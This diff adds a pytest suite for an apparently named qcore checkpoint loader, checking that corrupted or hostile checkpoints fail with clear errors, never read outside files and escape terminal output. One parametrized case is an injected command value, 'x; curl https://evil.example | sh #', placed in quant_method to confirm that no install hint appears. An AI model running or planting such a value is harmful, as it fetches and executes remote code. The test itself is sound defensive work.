@@ -1,0 +1,338 @@
+"""Hostile and broken checkpoints: every generated case loads correctly or raises a qcore error naming
+the file and key at fault; `qcore inspect` and `qcore quantize` exit 1 with an escaped message; nothing
+outside the checkpoint is read; backends get aligned tensors.
+
+The cases come from helpers/hostile.py (by area: safetensors header fields, whole files, index
+entries, config.json fields, quantization_config, .bin files).
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+import torch
+from safetensors import safe_open
+
+import qcore
+from helpers.hostile import (
+    INDEX,
+    KEY,
+    TINY_CONFIG,
+    WEIGHTS,
+    Case,
+    _space_padded,
+    all_cases,
+    control_chars,
+    copy_checkpoint,
+    make_base,
+)
+from helpers.int8_backend import Int8TestConfig, Int8TestQuantizer
+from helpers.models import TinyTransformer, make_tiny
+from qcore.cli import escaped, main
+
+CASES = all_cases()
+LOADS_DIFFERENTLY = {"dtype-F16-reinterprets"}  # well-formed: the same bytes read as another float type
+
+
+@pytest.fixture(scope="module")
+def bases(tmp_path_factory: pytest.TempPathFactory) -> dict[bool, Path]:
+    root = tmp_path_factory.mktemp("bases")
+    return {sharded: make_base(root / f"sharded-{sharded}", sharded=sharded) for sharded in (False, True)}
+
+
+@pytest.fixture(scope="module")
+def reference() -> dict[str, torch.Tensor]:
+    return make_tiny(**TINY_CONFIG).state_dict()
+
+
+def prepared(case: Case, bases: dict[bool, Path], tmp_path: Path) -> Path:
+    ckpt = copy_checkpoint(bases[case.sharded], tmp_path / "ckpt")
+    case.corrupt(ckpt)
+    return ckpt
+
+
+# Every file opened while a load runs: the proof that nothing outside the checkpoint is read.
+_opened: list[str] | None = None
+
+
+def _audit(event: str, args: tuple[object, ...]) -> None:
+    if event == "open" and _opened is not None and isinstance(args[0], (str, bytes, os.PathLike)):
+        _opened.append(os.fsdecode(args[0]))
+
+
+sys.addaudithook(_audit)
+
+
+@contextlib.contextmanager
+def recording_opens() -> Iterator[list[str]]:
+    global _opened
+    _opened = []
+    try:
+        yield _opened
+    finally:
+        _opened = None
+
+
+def outside_reads(opened: list[str], ckpt: Path) -> list[str]:
+    root = ckpt.parent
+    return [
+        p
+        for p in opened
+        if Path(p).name in ("outside.safetensors", "elsewhere.safetensors")
+        or (Path(p).is_relative_to(root) and not Path(p).is_relative_to(ckpt))
+    ]
+
+
+def assert_names(message: str, needles: tuple[str, ...]) -> None:
+    for needle in needles:
+        assert needle in message or escaped(needle) in message or repr(needle)[1:-1] in message, (
+            f"{needle!r} not in {message!r}"
+        )
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_load(
+    case: Case,
+    bases: dict[bool, Path],
+    reference: dict[str, torch.Tensor],
+    tmp_path: Path,
+    int8_backend: qcore.Backend,
+) -> None:
+    ckpt = prepared(case, bases, tmp_path)
+    with recording_opens() as opened:
+        if case.outcome == "loads":
+            model = qcore.from_pretrained(TinyTransformer, ckpt)
+        else:
+            with pytest.raises(qcore.QcoreError) as info:
+                qcore.from_pretrained(TinyTransformer, ckpt)
+    assert not outside_reads(opened, ckpt)
+    if case.outcome == "loads":
+        if case.id not in LOADS_DIFFERENTLY:
+            state = model.state_dict()
+            assert all(torch.equal(state[k], v) for k, v in reference.items())
+        return
+    assert_names(str(info.value), case.needles)
+
+
+def _stderr_line(err: str) -> str:
+    lines = [line for line in err.splitlines() if line.startswith("qcore: error:")]
+    assert len(lines) == 1, err
+    return lines[0]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_inspect(
+    case: Case,
+    bases: dict[bool, Path],
+    tmp_path: Path,
+    int8_backend: qcore.Backend,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    ckpt = prepared(case, bases, tmp_path)
+    with recording_opens() as opened:
+        code = main(["inspect", str(ckpt)])
+    out, err = capsys.readouterr()
+    assert not outside_reads(opened, ckpt)
+    assert not control_chars(out + err), "checkpoint strings must reach the terminal escaped"
+    if case.outcome == "error" and case.inspect_sees:
+        assert code == 1, out + err
+        assert_names(_stderr_line(err), case.needles)
+    elif case.outcome == "loads":
+        assert code == 0, err
+    else:  # a fault only building the model or loading the data reveals
+        assert code in (0, 1), err
+
+
+# Quantizing on load hands the backend the checkpoint's float tensor as it is; a well-formed tensor of
+# another shape with the same elements reaches it unchecked (only pre-quantized loads ask the backend
+# to check shapes), and the int8 test backend quantizes it without complaint.
+SHAPE_UNCHECKED_ON_LOAD = {"shape-extra-dim", "shape-transposed-rank"}
+QUANTIZE_CASES = [
+    pytest.param(
+        c,
+        id=c.id,
+        marks=[pytest.mark.xfail(strict=True, reason="shape unchecked when quantizing on load")]
+        if c.id in SHAPE_UNCHECKED_ON_LOAD
+        else [],
+    )
+    for c in CASES
+    if c.area != "quantization_config"
+]
+
+
+@pytest.mark.parametrize("case", QUANTIZE_CASES)
+def test_quantize(
+    case: Case,
+    bases: dict[bool, Path],
+    tmp_path: Path,
+    int8_backend: qcore.Backend,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    ckpt = prepared(case, bases, tmp_path)
+    out_dir = tmp_path / "out"
+    argv = [
+        "quantize",
+        str(ckpt),
+        str(out_dir),
+        "--method",
+        "int8-test",
+        "--model",
+        "helpers.models:TinyTransformer",
+    ]
+    code = main(argv)
+    out, err = capsys.readouterr()
+    assert not control_chars(out + err)
+    if case.outcome == "loads":
+        assert code == 0, err
+        return
+    assert code == 1, err
+    assert_names(_stderr_line(err), case.needles)
+    assert not out_dir.exists()
+
+
+# --- locations --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "spelling",
+    [
+        "./nowhere",
+        "../nowhere",
+        "~/qcore-nowhere",
+        "{tmp}/nowhere",
+        "a/b/c",
+        "nowhere/",
+        "{tmp}/file.txt",
+        "no such//repo",
+        "-bad-",
+        "x" * 200,
+    ],
+)
+def test_mistyped_paths_fail_fast_without_the_hub(
+    spelling: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import huggingface_hub
+
+    def no_hub(*args: object, **kwargs: object) -> None:
+        raise AssertionError("a mistyped local path reached the hub")
+
+    monkeypatch.setattr(huggingface_hub, "hf_hub_download", no_hub)
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "file.txt").write_text("not a checkpoint")
+    path = spelling.format(tmp=tmp_path)
+    with pytest.raises(qcore.CheckpointNotFoundError, match="no such directory|not a directory"):
+        qcore.from_pretrained(TinyTransformer, path)
+    assert main(["inspect", "--", path]) == 1
+    err = capsys.readouterr().err
+    assert "no such directory" in err or "not a directory" in err
+
+
+def test_a_valid_hub_id_still_goes_to_the_hub(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    monkeypatch.chdir(tmp_path)
+    with pytest.raises(qcore.CheckpointNotFoundError, match="acme/tiny.*local Hugging Face cache"):
+        qcore.from_pretrained(TinyTransformer, "acme/tiny", cache_dir=tmp_path, local_files_only=True)
+
+
+# --- untrusted text ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("quant_method", "hint"),
+    [
+        ("gguf-x", "pip install qcore-gguf-x"),
+        ("x; curl https://evil.example | sh #", None),
+        ("\x1b[31mred", None),
+        ("a b", None),
+        ("../x", None),
+        ("-leading", None),
+    ],
+)
+def test_install_hint_only_for_distribution_names(
+    quant_method: str,
+    hint: str | None,
+    tmp_path: Path,
+    bases: dict[bool, Path],
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    ckpt = copy_checkpoint(bases[False], tmp_path / "ckpt")
+    config = json.loads((ckpt / "config.json").read_text())
+    config["quantization_config"] = {"quant_method": quant_method}
+    (ckpt / "config.json").write_text(json.dumps(config))
+    with pytest.raises(qcore.BackendNotFoundError) as info:
+        qcore.from_pretrained(TinyTransformer, ckpt)
+    assert ("pip install" in str(info.value)) == (hint is not None)
+    assert main(["inspect", str(ckpt), "--json"]) == 1
+    out, err = capsys.readouterr()
+    shown = json.loads(out)["load"]["install_hint"]
+    assert shown == hint if hint is None else shown.startswith(hint)
+    assert not control_chars(out + err)
+    if hint is None:
+        assert "pip install" not in out + err
+
+
+# --- alignment ----------------------------------------------------------------------------------------
+
+
+class _RecordingQuantizer(Int8TestQuantizer):
+    offsets: list[tuple[str, int]] = []
+
+    @qcore.hookimpl
+    def create_quantized_param(self, model, param_name, param_value, target_device, state_dict):  # type: ignore[no-untyped-def]
+        for key, tensor in state_dict.items():
+            _RecordingQuantizer.offsets.append((key, tensor.data_ptr() % qcore_alignment()))
+        super().create_quantized_param(model, param_name, param_value, target_device, state_dict)
+
+
+class _RecordingConfig(Int8TestConfig):
+    quant_method = "int8-align"
+
+
+def qcore_alignment() -> int:
+    return 64
+
+
+def test_backends_get_aligned_tensors_from_odd_offsets(tmp_path: Path, int8_backend: qcore.Backend) -> None:
+    source = make_base(tmp_path / "bf16", sharded=False)
+    quantized = TinyTransformer.from_pretrained(source, quantization_config=Int8TestConfig())
+    saved = tmp_path / "int8"
+    qcore.save_pretrained(quantized, saved, max_shard_size="1KB")
+    config = json.loads((saved / "config.json").read_text())
+    config["quantization_config"]["quant_method"] = "int8-align"
+    (saved / "config.json").write_text(json.dumps(config))
+    shards = sorted(saved.glob("*-of-*.safetensors"))
+    assert len(shards) > 1 and (saved / INDEX).is_file()
+    misaligned = 0
+    for shard in shards:
+        shard.write_bytes(_space_padded(shard.read_bytes()))
+        with safe_open(str(shard), framework="pt") as f:  # the raw views are misaligned: the test bites
+            misaligned += sum(f.get_tensor(k).data_ptr() % 64 != 0 for k in f.keys())
+    assert misaligned
+
+    qcore.register_backend(qcore.Backend("int8-align", _RecordingConfig, _RecordingQuantizer))
+    _RecordingQuantizer.offsets = []
+    try:
+        reloaded = qcore.from_pretrained(TinyTransformer, saved)
+    finally:
+        qcore.unregister_backend("int8-align")
+    assert len(_RecordingQuantizer.offsets) >= 2 * 5  # weight and scale of every quantized Linear
+    assert [key for key, offset in _RecordingQuantizer.offsets if offset] == []
+    x = torch.randn(2, 16, generator=torch.Generator().manual_seed(0)).to(torch.bfloat16)
+    assert torch.equal(reloaded(x), quantized(x))
+
+
+def test_header_offsets_past_the_end_never_allocate(tmp_path: Path, bases: dict[bool, Path]) -> None:
+    # A header claiming 2**62 elements must fail on the header, before any tensor is made.
+    from helpers.hostile import read_raw, write_raw
+
+    ckpt = copy_checkpoint(bases[False], tmp_path / "ckpt")
+    header, data = read_raw(ckpt / WEIGHTS)
+    header[KEY] = {"dtype": "U8", "shape": [2**40], "data_offsets": [0, 2**40]}
+    write_raw(ckpt / WEIGHTS, header, data)
+    with pytest.raises(qcore.CorruptCheckpointError, match=f"{WEIGHTS}.*{KEY}"):
+        qcore.from_pretrained(TinyTransformer, ckpt)
